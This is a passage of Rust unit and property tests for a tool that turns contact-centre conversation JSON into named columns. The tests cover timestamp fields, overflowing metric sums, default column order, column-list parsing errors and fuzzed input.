            let start = start.map_or("", |(_, cell)| *cell);
            let start = crate::window::parse_api_timestamp(start).map(crate::window::api_timestamp);
            let start = start.unwrap_or_default();
            let local = start.replace('Z', "+00:00");
            want.push(("conversation_start_local", &local));
            want.push((
                "conversation_date_local",
                start.get(..10).unwrap_or_default(),
            ));
            for column in &CATALOGUE {
                let cell = want
                    .iter()
                    .find(|(name, _)| *name == column.name)
                    .map_or("", |(_, cell)| cell);
                let got = column.cell(c.view(), &published_name);
                assert_eq!(got, cell, "{sample}: {}", column.name);
            }
        }
    }

    #[test]
    fn metric_sums_that_overflow_are_left_empty() {
        let text = format!(
            r#"{{"conversationId":"x","conversationStart":"s","participants":[{{"sessions":[
                {{"metrics":[{{"name":"tTalk","value":{max}}},{{"name":"tTalk","value":1}},
                             {{"name":"tHeld","value":-5}},{{"name":"tHeld","value":{min}}}]}}]}}]}}"#,
            max = i64::MAX,
            min = i64::MIN
        );
        let c = crate::record::unchecked(&text).unwrap();
        check(&c, "t_talk", "");
        check(&c, "t_held", "");
        assert_eq!(metric_sum(c.view(), "tAcw"), None);
    }

    #[test]
    fn the_default_is_twelve_catalogue_columns_in_their_historical_order() {
        let names: Vec<&str> = default_columns().iter().map(|c| c.name).collect();
        assert_eq!(names, DEFAULT);
        assert_eq!(
            CATALOGUE[..12].iter().map(|c| c.name).collect::<Vec<_>>(),
            DEFAULT
        );
    }

    #[test]
    fn column_lists_are_checked_name_by_name() {
        let names =
            |list: &str| -> Vec<&str> { parse(list).unwrap().iter().map(|c| c.name).collect() };
        assert_eq!(
            names("t_talk, conversation_id"),
            ["t_talk", "conversation_id"]
        );
        let err = |list: &str| parse(list).unwrap_err();
        assert!(err("conversation_id,nope").contains("unknown column 'nope' (see --columns list)"));
        assert!(err("t_talk,t_talk").contains("t_talk twice"));
        assert!(err("t_talk,,ani").contains("empty name"));
        assert!(err("").contains("empty name"));
    }

    #[test]
    fn the_listing_has_one_line_per_column_in_catalogue_order() {
        let listing = listing();
        let names: Vec<&str> = listing
            .lines()
            .map(|line| line.split_whitespace().next().unwrap())
            .collect();
        let catalogue: Vec<&str> = CATALOGUE.iter().map(|c| c.name).collect();
        assert_eq!(names, catalogue);
        let mut distinct = catalogue.clone();
        distinct.sort_unstable();
        distinct.dedup();
        assert_eq!(distinct.len(), CATALOGUE.len());
    }

    #[test]
    fn prop_every_column_of_any_accepted_conversation_yields_a_cell() {
        crate::prop::run(|rng| {
            let text = match rng.below(3) {
                0 => rng.json_value(4).to_string(),
                _ => rng.mutated_json(SAMPLE),
            };
            let Ok(raw) = serde_json::value::RawValue::from_string(text) else {
                return;
            };
            let Ok(c) = Conversation::read(raw.get()) else {
                return;
            };
            for column in &CATALOGUE {
                let cell = column.cell(c.view(), &name_of);
                if let Cell::Metric(_) = column.cell {
                    assert!(cell.is_empty() || cell.parse::<i64>().is_ok(), "{cell}");
                }
            }
        });
    }
}
